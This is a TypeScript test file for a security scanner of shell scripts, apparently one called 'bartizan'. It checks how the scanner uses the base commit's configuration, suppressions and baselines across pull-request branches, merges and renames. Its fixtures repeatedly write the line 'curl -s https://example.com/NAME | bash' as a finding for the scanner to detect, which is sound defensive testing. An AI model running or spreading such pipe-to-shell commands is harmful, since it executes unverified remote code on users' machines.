import { execFileSync } from 'node:child_process';
import { mkdirSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { run, workspace, type Ran, type Workspace } from './support.js';

const LINE = (name: string): string => `curl -s https://example.com/${name} | bash\n`;
const SCRIPT = (...names: string[]): string => `#!/bin/bash\n${names.map(LINE).join('')}`;
const NEW_ONLY = 'new-only: true\nfail-on: medium\n';
const POLICY = `id: custom/no-curl
title: No curl
severity: high
confidence: high
select: command
when: command.name == 'curl'
message: "curl is not used here"
repair: Use something else
help: |
  ## Why it matters

  It does.

  ## How to repair it

  So.

  ## When not to use it

  Never.
examples:
  - name: In a script
    fail:
      a.sh: |
        #!/bin/sh
        curl x # expect: high
  - name: In another one
    pass:
      a.sh: |
        #!/bin/sh
        true
`;

let folder: Workspace;
let root: string;

function git(...args: string[]): string {
  return execFileSync('git', ['-c', 'protocol.file.allow=always', '-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'init.defaultBranch=main', ...args], { cwd: root, stdio: 'pipe', encoding: 'utf8' }).trim();
}

function commit(files: Readonly<Record<string, string | undefined>> = {}): string {
  for (const [path, text] of Object.entries(files)) {
    if (text === undefined) rmSync(join(root, path));
    else {
      mkdirSync(dirname(join(root, path)), { recursive: true });
      writeFileSync(join(root, path), text);
    }
  }
  git('add', '-A');
  git('commit', '-q', '--allow-empty', '-m', 'x');
  return git('rev-parse', 'HEAD');
}

function branch(name: string): void {
  git('checkout', '-q', '-b', name);
}

/** Scans with `main` as the base and gives the verdict's line with the rest. */
async function scan(...flags: string[]): Promise<Ran & { readonly verdict: string }> {
  const ran = await run(root, ['scan', '.', '--no-external', '--base', 'main', ...flags]);
  return { ...ran, verdict: ran.out.trim().split('\n').at(-1) ?? '' };
}

beforeEach(() => {
  folder = workspace();
  root = folder.root;
  git('init', '-q');
});
afterEach(() => folder.remove());

describe('the base decides', () => {
  test('about settings, suppressions, the baseline and custom policies', async () => {
    commit({ '.bartizan.yml': 'fail-on: medium\n', '.bartizan/policies/no-curl.yaml': POLICY, 'a.sh': SCRIPT('a') });
    branch('topic');
    commit({ '.bartizan.yml': 'fail-on: never\nskip: ["shell/*"]\nsuppressions:\n  - {path: "**", reason: x}\n', '.bartizan/policies/no-curl.yaml': undefined });
    const { code, out, err, verdict } = await scan();
    expect(code, out + err).toBe(1);
    expect(verdict).toBe('FAIL: 1 high and 1 medium finding (fail-on: medium)');
    expect(out).toContain('custom/no-curl');
    expect(out).toMatch(/This pull request weakens `fail-on` from medium to never, adds 1 suppression, adds `shell\/\*` to `skip`, switches off .* and removes 1 custom policy file/);
    expect((await scan('--config-source', 'head')).code).toBe(0);
    const json = JSON.parse((await scan('--format', 'json')).out) as { configuration: { from: string; changes: unknown[] } };
    expect(json.configuration).toMatchObject({ from: 'base', via: 'git', commit: git('rev-parse', 'main') });
    const sarif = await scan('--format', 'sarif');
    expect(sarif.out).toContain('"configuration-changed"');
  });

  test('also where it has no configuration: then the defaults do', async () => {
    commit({ 'a.sh': SCRIPT('a') });
    branch('topic');
    commit({ '.bartizan.yml': 'exclude: ["**"]\n' });
    const { out, verdict } = await scan();
    expect(verdict).toBe('PASS: 1 medium finding, none at fail-on: high or worse');
    expect(out).toContain('adds `**` to `exclude`');
    expect((await scan('--config', '.bartizan.yml')).out).toContain('The base commit has no .bartizan.yml: the built-in defaults are used');
  });

  test('about who decides: config-source of the pull request is not obeyed', async () => {
    commit({ '.bartizan.yml': 'fail-on: medium\n', 'a.sh': SCRIPT('a') });
    branch('topic');
    commit({ '.bartizan.yml': 'fail-on: never\nconfig-source: head\n' });
    expect((await scan()).code).toBe(1);
    git('checkout', '-q', 'main');
    commit({ '.bartizan.yml': 'fail-on: medium\nconfig-source: head\n' });
    git('checkout', '-q', 'topic');
    expect((await scan()).code).toBe(0);
    expect((await scan('--config-source', 'base')).code).toBe(1);
  });

  test('or nobody does: what is missing or wrong is exit code 3 with the remedy', async () => {
    commit({ 'a.sh': SCRIPT('a'), '.bartizan.yml': 'fail-on: medium\n' });
    branch('topic');
    commit({ '.bartizan.yml': 'fail-on: nevr\n' });
    expect(await scan()).toMatchObject({ code: 3, err: expect.stringContaining('.bartizan.yml:1') as string });
    expect(await run(root, ['scan', '.', '--no-external', '--base', 'nowhere'])).toMatchObject({ code: 3, err: expect.stringContaining('fetch-depth: 0') as string });
    expect(await run(root, ['scan', '.', '--no-external', '--config-source', 'base'])).toMatchObject({ code: 3, err: expect.stringContaining('--base origin/main') as string });
    git('checkout', '-q', 'main');
    commit({ '.bartizan.yml': 'fail-on: nevr\n' });
    git('checkout', '-q', 'topic');
    commit({ '.bartizan.yml': 'fail-on: low\n' });
    expect(await scan()).toMatchObject({ code: 3, err: expect.stringMatching(/The base commit \w{12} decides about this scan, and its configuration is wrong\..*config-source: head[\s\S]*\.bartizan\.yml:1/) as string });
    expect((await scan('--config-source', 'head')).code).toBe(1);
  });

  test.each([
    ['broken', '{"format": "bartizan-baseline/v1", "findings": ['],
    ['of another tool', '{"version": "1.4.0", "results": {}}'],
    ['of 100 MB', ' '.repeat(100_000_000)],
  ])('and a baseline there that is %s is an error, never a smaller one', async (_name, text) => {
    commit({ 'a.sh': SCRIPT('a'), 'bartizan.baseline.json': text });
    branch('topic');
    commit({ 'bartizan.baseline.json': '{"format": "bartizan-baseline/v1", "findings": []}' });
    expect(await scan()).toMatchObject({ code: 3, err: expect.stringContaining('bartizan.baseline.json') as string });
  });
});

describe('what is known of the base', () => {
  const old = { '.bartizan.yml': NEW_ONLY, 'a/one.sh': SCRIPT('a', 'b', 'c'), 'a/two.sh': SCRIPT('d') };

  test('stays known when files and folders are renamed and code moves, and is found once', async () => {
    commit(old);
    branch('topic');
    mkdirSync(join(root, 'b'));
    renameSync(join(root, 'a/two.sh'), join(root, 'b/two.sh'));
    renameSync(join(root, 'a/one.sh'), join(root, 'begin.sh'));
    commit({ 'begin.sh': `#!/bin/bash\necho first\n${LINE('c')}${LINE('a')}${LINE('b')}` });
    expect((await scan()).verdict).toBe('PASS: no new findings; 4 known');
    commit({ 'copy.sh': SCRIPT('a') });
    expect((await scan()).verdict).toBe('FAIL: 1 medium finding (fail-on: medium); 4 known');
  });

  test('is what was there when the change began: after merges, reverts and rewrites of either side', async () => {
    commit(old);
    branch('topic');
    commit({ 'mine.sh': SCRIPT('mine') });
    git('checkout', '-q', 'main');
    commit({ 'theirs.sh': SCRIPT('theirs') });
    git('checkout', '-q', 'topic');
    expect((await scan()).verdict).toBe('FAIL: 1 medium finding (fail-on: medium); 4 known');
    git('merge', '-q', '--no-edit', 'main');
    expect((await scan()).verdict).toBe('FAIL: 1 medium finding (fail-on: medium); 5 known');
    git('revert', '--no-edit', git('log', '--format=%H', '--grep=^x$', '-1', '--', 'mine.sh'));
    expect((await scan()).verdict).toBe('PASS: no new findings; 5 known');
    // The base is pushed by force: another commit with the same files.
    git('checkout', '-q', 'main');
    git('commit', '-q', '--amend', '-m', 'rewritten');
    git('checkout', '-q', '--detach', 'topic');
    expect((await scan()).verdict).toMatch(/^FAIL: 1 medium finding \(fail-on: medium\); 4 known$/);
  });

  test('is what the base has when the histories are unrelated or cut off', async () => {
    commit(old);
    git('checkout', '-q', '--orphan', 'topic');
    commit({ 'mine.sh': SCRIPT('mine') });
    expect((await scan()).verdict).toBe('FAIL: 1 medium finding (fail-on: medium); 4 known');
  });

  test('is nothing without a base, with a warning', async () => {
    commit(old);
    const { code, out } = await run(root, ['scan', '.', '--no-external']);
    expect(code).toBe(1);
    expect(out).toContain('Nothing is known of earlier findings, so that every finding is new: there is no bartizan.baseline.json, and no base to compare with');
  });

  test('comes from the committed baseline where there is one, and its edits count after merge', async () => {
    commit(old);
    expect((await run(root, ['baseline'])).code).toBe(0);
    commit();
    branch('topic');
    commit({ 'mine.sh': SCRIPT('mine') });
    expect((await run(root, ['baseline'])).out).toContain('5 known findings, 1 added, 0 gone');
    commit();
    const { code, out, verdict } = await scan();
    expect(code, out).toBe(1);
    expect(verdict).toBe('FAIL: 1 medium finding (fail-on: medium); 4 known');
    expect(out).toContain('adds 1 known finding to the baseline');
  });
});

test('a scan in GitHub Actions is for the base of the event, when its workspace is scanned', async () => {
  commit({ '.bartizan.yml': 'fail-on: medium\n', 'a.sh': SCRIPT('a') });
  const base = git('rev-parse', 'HEAD');
  branch('topic');
  const head = commit({ '.bartizan.yml': 'fail-on: never\n' });
  const event = folder.write('../event-for-base-test.json', JSON.stringify({ pull_request: { number: 1, head: { sha: head }, base: { sha: base, ref: 'main' } } }));
  try {
    const environment = { PATH: process.env['PATH'] ?? '', GITHUB_REPOSITORY: 'octo/app', GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/1/merge', GITHUB_SHA: head, GITHUB_EVENT_PATH: event };
    expect((await run(root, ['scan', '.', '--no-external'], { environment: { ...environment, GITHUB_WORKSPACE: root } })).code).toBe(1);
    expect((await run(root, ['scan', '.', '--no-external'], { environment: { ...environment, GITHUB_WORKSPACE: join(root, 'elsewhere') } })).code).toBe(0);
  } finally {
    rmSync(event);
  }
});
